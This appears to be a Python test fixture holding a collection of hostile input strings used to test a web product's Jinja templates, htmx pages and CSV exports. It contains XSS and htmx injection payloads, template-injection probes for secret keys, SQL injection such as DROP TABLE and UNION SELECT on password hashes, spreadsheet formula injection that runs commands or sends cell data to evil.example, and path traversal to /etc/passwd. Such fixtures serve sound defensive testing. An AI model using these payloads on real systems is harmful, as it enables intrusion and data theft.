"""Two hundred texts that would do something, somewhere, if they were taken for more than text.

Written for this product: its templates are Jinja, its pages htmx, its exports CSV. None holds what a form
refuses as unkeepable (NUL, lone surrogates): those have tests of their own.
"""

import re
from hashlib import sha256
from itertools import cycle

EVIL = "//evil.example"

HTML = (
    "<script>alert(1)</script>", "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>", "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<iframe src=https://evil.example></iframe>",
    "<object data=https://evil.example></object>", "<embed src=https://evil.example>", "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>", "<style>*{background:url(https://evil.example)}</style>",
    "<meta http-equiv=refresh content=0;url=https://evil.example>", "<form action=https://evil.example><input name=q>",
    "<input type=hidden name=csrf_token value=x>", "<button formaction=https://evil.example>x</button>",
    "<a href=javascript:alert(1)>x</a>", "<a href=https://evil.example>x</a>", "<video src=https://evil.example autoplay>",
    "<audio src=x onerror=alert(1)>", "<details open ontoggle=alert(1)>", "<body onload=alert(1)>", "<table><td>x", "<!--", "-->",
    "<!-- x --!>", "<![CDATA[x]]>", "<?xml version=1?>", "<!DOCTYPE html>", "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>", "</script><script>alert(1)</script>", "</select></form></div></main></body></html>x",
    "</p></li></ul></td></tr></table>", "</textarea>", "</style>", "<plaintext>", "<xmp>", "<noscript><p title=\"</noscript><img src=x>\">",
    "<math><mtext><style><img src=x onerror=alert(1)>", "<template><script>x</script></template>", "<x onclick=alert(1)>x</x>",
    "<b>bold</b>", "<<script>alert(1)//<</script>", "<scr<script>ipt>", "<img/src/onerror=alert(1)>", "<img src=x\tonerror=alert(1)>",
    "< script >alert(1)</ script >", "<dialog open>x</dialog>", "<portal src=https://evil.example>", "<isindex action=x>",
)  # fmt: skip
ATTRIBUTES = (
    '"><script>alert(1)</script>', "'><script>alert(1)</script>", '" onfocus=alert(1) autofocus x="', "' onfocus=alert(1) autofocus x='",
    '" onmouseover="alert(1)', "' style='background:url(//evil.example)", '" style="position:fixed" x="', '"/><img src=x>', "`><img src=x>",
    '" href="https://evil.example', '" src="//evil.example/x', '" action="https://evil.example', '" formaction="https://evil.example',
    '" type="image" src="//evil.example', '" id="main-content', '" name="csrf_token', '" checked disabled hidden x="', '" accesskey=x onclick="alert(1)',
    'x onclick=alert(1)', '\\" onclick=alert(1) \\"', "&quot; onclick=alert(1) &quot;", "&#34; onclick=alert(1)", '" srcdoc="<script>alert(1)</script>',
    '" target=_blank rel=opener x="', "javascript:alert(1)", "data:text/html,<script>alert(1)</script>",
)  # fmt: skip
HTMX = (
    '<div hx-get=https://evil.example hx-trigger=load></div>', '<div data-hx-get="//evil.example" data-hx-trigger="load">x</div>',
    '" hx-get="https://evil.example" hx-trigger="load" x="', "' hx-post='/sign-out' hx-trigger='load' x='", '" data-hx-post="/sign-out" data-hx-trigger="load',
    '" hx-on:click="alert(1)', '" hx-on::load="alert(1)', '" data-hx-on-click="alert(1)', '" hx-vals="js:{x:alert(1)}', '" hx-headers=\'js:{"x":alert(1)}\' x="',
    '" hx-ext="evil', '<div hx-swap-oob="true" id="main-content">x</div>', '<template hx-swap-oob="innerHTML:#alerts">x</template>',
    '" hx-swap-oob="innerHTML:body', '<div hx-boost=true><a href=//evil.example>x</a></div>', '" hx-include="[name=password]', '" hx-push-url="//evil.example',
    '<hx-partial hx-target="#alerts">x</hx-partial>', '<div hx-disable>', '" hx-select="body" hx-target="body',
    '<meta name=htmx-config content=\'{"selfRequestsOnly":false}\'>', '" hx-action="//evil.example', '" hx-confirm="x" hx-prompt="x', "<div data-hx-sse=connect://evil.example>",
)  # fmt: skip
TEMPLATES = (
    "{{ 91*83 }}", "{{91*83}}", "{% print(91*83) %}", "{{ config }}", "{{ config.SECRET_KEY }}", "{{ request.cookies }}", "{{ ''.__class__.__mro__ }}",
    "{{ cycler.__init__.__globals__ }}", "{% include 'layouts/page.html' %}", "{% extends 'x' %}", "{# x #}", "{% raw %}", "{{ '<script>'|safe }}", "${91*83}", "#{91*83}",
    "<%= 91*83 %>", "${{91*83}}", "[[91*83]]", "{0.__class__}", "%(password)s", "{recipient}", "{{{{ 91*83 }}}}", "{% set x = 1 %}", "@(91*83)",
)  # fmt: skip
DATABASE = (
    "'", "''", "' OR '1'='1", "' OR 1=1 --", "'; DROP TABLE note; --", '"; DROP TABLE note; --', "1; SELECT pg_sleep(1)", "' UNION SELECT password_hash FROM user_account --",
    "\\'; DROP TABLE note; --", "%' OR '%'='", "100%", "a_b", "\\", "%%", "/* x */", "' || (SELECT 1) || '", ":name", "?", "$1", "E'\\x41'",
)  # fmt: skip
FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1)", "=cmd|' /C calc'!A0", '=HYPERLINK("https://evil.example?"&A1,"x")', '=IMPORTXML("https://evil.example","//a")',
    '=WEBSERVICE("https://evil.example")', "＝1+1", "＋1", "－1", "＠SUM(1)", " =1+1", "\u00a0=1", "\u200b=1", "\ufeff=1", "'=1", '"=1', ";=1", ",=1", "%0A=1", "-2+3+cmd|' /C calc'!A0",
)  # fmt: skip
UNICODE = (
    "\u202egnp.exe\u202c", "\u2066abc\u2069", "\u200b\u200c\u200d\u2060", "\ufeff", "a\u0300\u0301\u0302\u0303\u0304", "\U0001f438\U0001f468\u200d\U0001f469\u200d\U0001f467",
    "\u2028x\u2029", "\ufffd\ufffe", "\u00ad", "\u0085", "＜script＞alert(1)＜/script＞", "﹤script﹥", "‹script›", "ʺ onclick=alert(1) ʺ", "ß ſ K İ ı", "Ａ\u0000".replace("\u0000", ""),
    "\u1680\u2003x", "\x1b[31mred\x1b[0m", "\x07\x08\x0b\x0c", "\x7f\x80\x9b1m", "\U000e0041\U000e0042", "ﬁ Ⅳ ㎏", "مرحبا hello שלום", "%E2%80%AE", "\\u003cscript\\u003e",
    "+ADw-script+AD4-alert(1)", "&lt;script&gt;alert(1)&lt;/script&gt;", "&amp;lt;b&amp;gt;", "&#x3c;script&#x3e;", "%3Cscript%3Ealert(1)%3C/script%3E",
)  # fmt: skip
NOTHINGS = (
    "null", "None", "undefined", "NaN", "true", "-0", "[]", "{}", "[object Object]", "\\0", "%00", "&#0;", "0x00", "..", "../../../etc/passwd", "http:" + EVIL, "https:" + EVIL,
    EVIL, "x" * 180, "<" * 60, '"' * 60, "&" * 60,
)  # fmt: skip

PAYLOADS = (*HTML, *ATTRIBUTES, *HTMX, *TEMPLATES, *DATABASE, *FORMULAS, *UNICODE, *NOTHINGS)


def harmless(text: str) -> str:
    """The same length and the same gaps, of letters of its own; and nothing that could do anything."""
    letters = cycle(letter for letter in sha256(text.encode()).hexdigest() if letter.isalpha())
    return re.sub(r"\S", lambda _found: next(letters), text)
